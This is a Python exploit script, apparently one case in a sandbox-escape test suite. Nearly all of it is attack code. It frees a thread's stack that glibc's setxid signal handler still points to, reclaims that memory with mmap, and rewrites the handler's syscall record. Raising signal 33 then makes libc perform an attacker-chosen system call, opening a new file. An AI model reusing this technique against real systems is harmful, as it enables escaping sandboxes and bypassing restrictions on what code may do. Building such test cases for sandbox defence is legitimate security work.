# class: machine_code
# rule: native_code
# needs: x86_64 libc_signal
# success: libc's handler that changes the user makes the system call that it reads from our memory
# proof: new
import mmap
import os
import signal
import struct
import sys
import threading
import time

from attack import NEW, attempt

STACK = 64 << 20  # more than libc keeps of ended threads
GETPID, OPEN = 39, 2
NOTHING = struct.pack("<iI", GETPID, 0xFFFFFFFF)


def end(thread):
    thread.join()
    time.sleep(0.1)  # libc still uses its stack


def run_handler():
    """Send signal 33 as libc itself does: from this process, to a thread."""
    try:
        signal.raise_signal(33)
    except OSError as error:
        if error.errno != 22:
            raise
        thread = os.pidfd_open(os.getpid(), os.O_EXCL)
        signal.pidfd_send_signal(thread, 33, None, 1)


def found(maps):
    """Where the handler changed what it read: the count that follows the call and its arguments."""
    for memory in maps:
        for page in range(0, STACK, 4096):
            words = memory[page : page + 4096]
            if words != NOTHING * 512:
                same = (words[at : at + 8] == NOTHING for at in range(0, 4096, 8))
                return memory, page + 8 * list(same).index(False) - 32
    raise LookupError("not here")


@attempt
def call():
    leave = threading.Event()
    threading.stack_size(STACK)
    # The structure lies on the stack of the first thread, and libc's pointer to it stays. When the
    # second one ends, that stack is given back.
    threads = [threading.Thread(target=act) for act in (lambda: os.setuid(os.getuid()), leave.wait)]
    for thread in threads[::-1]:
        thread.start()
    end(threads[0])
    leave.set()
    end(threads[1])
    maps = [mmap.mmap(-1, STACK) for _ in range(3)]  # where the stack was
    for memory in maps:
        memory[:] = NOTHING * (STACK // 8)
    run_handler()
    memory, start = found(maps)
    path = NEW.encode() + b"\0"
    given = (OPEN, 0, id(path) + sys.getsizeof(b"") - 1, os.O_CREAT | os.O_WRONLY, 0o644)
    memory[start : start + 40] = struct.pack("<iiQQQiI", *given, 5, 0xFFFFFFFF)
    run_handler()
    return os.path.exists(NEW)
